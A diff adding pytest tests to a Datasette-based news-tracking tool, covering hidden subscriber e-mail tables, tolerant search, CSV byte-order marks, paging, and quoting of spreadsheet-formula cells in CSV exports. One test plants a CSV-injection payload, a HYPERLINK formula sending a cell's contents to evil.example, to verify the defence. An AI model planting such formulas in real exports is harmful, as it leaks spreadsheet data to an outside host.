@@ -6,12 +6,15 @@ Started for real as a subprocess on a free port and driven by headless Chromium.
 from __future__ import annotations
 
 from contextlib import contextmanager
+import csv
+import io
 import json
 import socket
 import subprocess
 import sys
 import time
 import urllib.error
+import urllib.parse
 import urllib.request
 
 import pytest
@@ -38,11 +41,12 @@ def get(url: str) -> tuple[int, str]:
 
 
 @contextmanager
-def serving(db_path, tmp_path):
+def serving(db_path, tmp_path, *options):
     port = free_port()
     log = open(tmp_path / "serve.log", "w+")
     process = subprocess.Popen(
-        [sys.executable, "-m", "stiwatch", "--db", str(db_path), "serve", "--port", str(port)],
+        [sys.executable, "-m", "stiwatch", "--db", str(db_path), "serve", "--port", str(port),
+         *options],
         stdout=log, stderr=subprocess.STDOUT,
     )
     base = f"http://127.0.0.1:{port}"
@@ -98,6 +102,9 @@ def test_serve_in_chromium_with_canned_queries(db_path, tmp_path, chromium_page)
         for title in ("This week's policy items by area", "Source health",
                       "Weekly trend by area", "Items about one country"):
             assert title in text
+        assert "subscribers" not in text and "deliveries" not in text  # readers' addresses
+        page.goto(f"{base}/stiwatch?sql=select+*+from+subscribers")
+        assert "access to subscribers.email is prohibited" in page.inner_text("body")
 
         page.goto(f"{base}/stiwatch/items_of_country")
         page.fill("input[name=country]", "jp")
@@ -263,3 +270,177 @@ def test_a_query_cannot_make_the_server_allocate_a_gigabyte(db_path, tmp_path):
         assert status == 200 and json.loads(body) == [{"n": 1000000}]
         status, body = get(f"{base}/stiwatch/items.json?_shape=array&_size=max")
         assert status == 200 and len(json.loads(body)) == len(analysts_store.ITEMS)
+
+
+def test_readers_addresses_are_not_served_unless_asked(db_path, tmp_path):
+    """subscribers and deliveries hold readers' e-mail addresses: absent from the pages, 403
+    for their URLs, and SQL reading them (directly, counted, in a subquery) is refused. With
+    --show-subscribers they are served like any table."""
+    analysts_store.build(db_path)
+    address = "taro.yamada@jst.example"
+    with db.open_store(db_path) as store:
+        store.save_subscribers([{"email": address, "name": "山田太郎"}])
+        store.ensure_deliveries("2026-W47", [address])
+    refused = ("select * from subscribers", "select count(*) from deliveries",
+               "select title from items where exists (select 1 from subscribers)",
+               "select subscriber from deliveries", "SELECT EMAIL FROM Subscribers")
+    with serving(db_path, tmp_path) as base:
+        for url in ("/", "/stiwatch", "/stiwatch.json"):
+            status, body = get(base + url)
+            assert status == 200 and "subscribers" not in body and "deliveries" not in body
+        for table in ("subscribers", "deliveries"):
+            for suffix in ("", ".json", ".csv", ".json?_shape=array"):
+                status, body = get(f"{base}/stiwatch/{table}{suffix}")
+                assert status in (403, 404) and address not in body, (table, suffix)
+        status, body = get(f"{base}/stiwatch/subscribers/{address}.json")
+        assert status in (403, 404) and address not in body
+        for sql in refused:
+            status, body = get(f"{base}/stiwatch.json?" + urllib.parse.urlencode({"sql": sql}))
+            assert status != 200 and address not in body, sql
+            assert "not authorized" in body or "prohibited" in body, body[:300]
+            status, body = get(f"{base}/stiwatch?" + urllib.parse.urlencode({"sql": sql}))
+            assert address not in body
+        # Everything else still answers.
+        status, body = get(f"{base}/stiwatch.json?sql=select+count(*)+as+n+from+items"
+                           "&_shape=array")
+        assert status == 200 and json.loads(body) == [{"n": len(analysts_store.ITEMS)}]
+    with serving(db_path, tmp_path, "--show-subscribers") as base:
+        status, body = get(f"{base}/stiwatch/subscribers.json?_shape=array")
+        assert status == 200 and [row["email"] for row in json.loads(body)] == [address]
+        status, body = get(f"{base}/stiwatch.json?sql=select+subscriber+from+deliveries"
+                           "&_shape=array")
+        assert status == 200 and json.loads(body) == [{"subscriber": address}]
+        assert "subscribers" in get(f"{base}/stiwatch")[1]
+
+
+def test_canned_queries_reading_personal_tables_are_hidden_with_them():
+    from stiwatch.datasette_meta import reads_personal
+
+    assert reads_personal("SELECT email FROM subscribers") and reads_personal(
+        "select * from Deliveries d")
+    assert not reads_personal("SELECT * FROM items")
+    queries = build_metadata("m")["databases"]["m"]["queries"]
+    assert set(queries) == {name for name, q in CANNED_QUERIES.items()
+                            if not reads_personal(q["sql"])}
+    tables = build_metadata("m")["databases"]["m"]["tables"]
+    assert tables["subscribers"]["allow"] is False and tables["deliveries"]["allow"] is False
+    assert "allow" not in build_metadata("m", personal=True)["databases"]["m"]["tables"][
+        "subscribers"]
+
+
+def test_the_items_search_box_takes_what_an_analyst_types(db_path, tmp_path):
+    """A lone quote, a dangling AND, R&D or co-operation was a 400 page (FTS5's syntax error):
+    now a page of results, with the search syntax of `stiwatch search` where it parses and the
+    words searched as plain words, saying why, where it does not."""
+    analysts_store.build(db_path)
+    with db.open_store(db_path) as store:
+        store.save_items([{"url": "https://mext-news.example/rd", "source_id": "mext-news",
+                           "title": "R&D co-operation with Korea", "body": "研究 と 開発"}])
+    with serving(db_path, tmp_path) as base:
+        def search(typed: str) -> tuple[set[str], str]:
+            query = urllib.parse.urlencode({"_search": typed, "_shape": "objects"})
+            status, body = get(f"{base}/stiwatch/items.json?{query}")
+            assert status == 200, (typed, body[:300])
+            status, page = get(f"{base}/stiwatch/items?{query}")
+            assert status == 200, (typed, page[:300])
+            data = json.loads(body)
+            return {row["title"] for row in data["rows"]}, data["human_description_en"]
+
+        quantum = {"Japan launches national quantum strategy", "Astronomers discover a distant "
+                   "galaxy", "Japan funds semiconductor research consortium"}
+        assert search("quantum") == (quantum, 'where search matches "quantum" sorted by '
+                                     "id descending")
+        for typed in ('"', "AND", "NOT", "(", "quantum AND", '"quantum', "foo:bar", "OR OR"):
+            titles, description = search(typed)
+            assert "searched as plain words, since" in description, (typed, description)
+        assert search('"quantum')[0] == quantum
+        assert "the quote in '\"' is not closed" in search('"')[1]
+        for typed in ("R&D", "co-operation", "R&D co-operation", "研究"):
+            titles, description = search(typed)
+            assert titles == {"R&D co-operation with Korea"}, typed
+            assert "plain words" not in description
+        # The syntax of `stiwatch search` still works.
+        assert search("quantum -japan")[0] == {"Astronomers discover a distant galaxy"}
+        assert search("title:quantum")[0] == {"Japan launches national quantum strategy"}
+        assert search("quantum OR semiconductor")[0] == quantum
+        assert search('"research security" AND china')[0] == {
+            "NSF issues research security guidance for grantees"}
+        assert search("strateg*")[0] == {"Japan launches national quantum strategy",
+                                         "EU AI research strategy adds computing for start-ups"}
+
+
+def test_csv_downloads_start_with_a_bom_for_excel_when_asked(db_path, tmp_path, monkeypatch):
+    """Excel on Windows garbles the Japanese of a CSV without a BOM: `serve --bom` or the
+    csv_bom setting puts one before every CSV download (table, SQL, streamed); JSON and the
+    default stay as Datasette writes them."""
+    analysts_store.build(db_path)
+    with db.open_store(db_path) as store:
+        store.save_items([{"url": "https://mext-news.example/ja", "source_id": "mext-news",
+                           "title": "量子技術の研究開発を推進"}])
+    urls = ("/stiwatch/items.csv?_dl=1", "/stiwatch/items.csv?_stream=on&_size=2",
+            "/stiwatch.csv?sql=select+title+from+items")
+
+    def fetch(url: str) -> bytes:
+        with urllib.request.urlopen(url, timeout=10) as response:
+            assert response.status == 200
+            return response.read()
+
+    with serving(db_path, tmp_path) as base:
+        plain = {url: fetch(base + url) for url in urls}
+    assert all(not body.startswith(b"\xef\xbb\xbf") for body in plain.values())
+    assert "量子技術の研究開発を推進".encode() in plain[urls[0]]
+    with serving(db_path, tmp_path, "--bom") as base:
+        for url in urls:
+            assert fetch(base + url) == b"\xef\xbb\xbf" + plain[url], url
+        assert fetch(f"{base}/stiwatch/items.json?_size=1").startswith(b"{")
+    monkeypatch.setenv("STIWATCH_CSV_BOM", "true")
+    with serving(db_path, tmp_path) as base:
+        assert fetch(base + urls[0]) == b"\xef\xbb\xbf" + plain[urls[0]]
+
+
+def test_csv_downloads_quote_cells_a_spreadsheet_would_run_as_formulas(db_path, tmp_path):
+    """A crawled title `=HYPERLINK(...)` went into Datasette's CSV as is, and ran as a
+    formula when the download was opened in Excel; stiwatch's own CSV quoted it. Now the
+    browser's CSV does the same, for a table, a query and a streamed download."""
+    analysts_store.build(db_path)
+    formula = '=HYPERLINK("http://evil.example/?"&A1, "Read")'
+    with db.open_store(db_path) as store:
+        store.save_items([{"url": "https://mext-news.example/evil", "source_id": "mext-news",
+                           "title": formula, "summary": "@SUM(1+1)",
+                           "body": 'two\nlines, "quoted" -and\n=not a cell start'}])
+    with serving(db_path, tmp_path) as base:
+        for url in ("/stiwatch/items.csv?_dl=1&_size=max", "/stiwatch/items.csv?_stream=on",
+                    "/stiwatch.csv?sql=select+id,title,summary,body+from+items"):
+            status, body = get(base + url)
+            assert status == 200, body[:300]
+            rows = {row["id"]: row for row in csv.DictReader(io.StringIO(body, newline=""))}
+            assert len(rows) == len(analysts_store.ITEMS) + 1, url
+            evil = next(row for row in rows.values() if "HYPERLINK" in row["title"])
+            assert evil["title"] == "'" + formula and evil["summary"] == "'@SUM(1+1)", url
+            assert evil["body"] == 'two\nlines, "quoted" -and\n=not a cell start', url
+            assert "Japan launches national quantum strategy" in {
+                row["title"] for row in rows.values()}
+
+
+def test_paging_through_items_shows_each_item_once(db_path, tmp_path):
+    """items was sorted by published_at by default: Datasette 0.65 pages such a sort without
+    a tie-breaker on the first page, so of 67 items, 60 published the same day, the pages and
+    the "stream all rows" CSV showed 98 rows, 53 of them distinct. The views, sorted by
+    published_at, page by offset and were right."""
+    analysts_store.build(db_path)
+    with db.open_store(db_path) as store:
+        store.save_items([{"url": f"https://mext-news.example/day-{n}", "source_id": "mext-news",
+                           "title": f"Same-day notice {n}", "date_source": "page",
+                           "published_at": "2026-11-20T00:00:00Z"} for n in range(60)])
+        every = {row["id"] for row in store.query("SELECT id FROM items")}
+    with serving(db_path, tmp_path) as base:
+        for table in ("items", "items_tagged"):
+            url, seen = f"{base}/stiwatch/{table}.json?_shape=objects", []
+            while url:
+                data = json.loads(get(url)[1])
+                seen += [row["id"] for row in data["rows"]]
+                url = data.get("next_url")
+            assert sorted(seen) == sorted(every), table
+            status, body = get(f"{base}/stiwatch/{table}.csv?_stream=on")
+            ids = [int(row["id"]) for row in csv.DictReader(io.StringIO(body, newline=""))]
+            assert sorted(ids) == sorted(every), table
